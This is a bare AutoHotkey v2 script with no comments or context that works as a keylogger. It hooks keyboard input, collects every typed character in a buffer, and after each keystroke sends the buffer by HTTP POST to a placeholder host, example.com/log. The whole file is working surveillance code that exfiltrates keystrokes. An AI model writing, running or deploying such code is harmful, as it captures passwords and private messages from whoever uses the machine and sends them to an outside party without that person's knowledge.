#Requires AutoHotkey v2.0
ih := InputHook("V L0")
ih.OnChar := Note
ih.Start()
Note(hook, char) {
    static buffer := ""
    buffer .= char
    http := ComObject("WinHttp.WinHttpRequest.5.1")
    http.Open("POST", "https://example.com/log")
    http.Send(buffer)
}
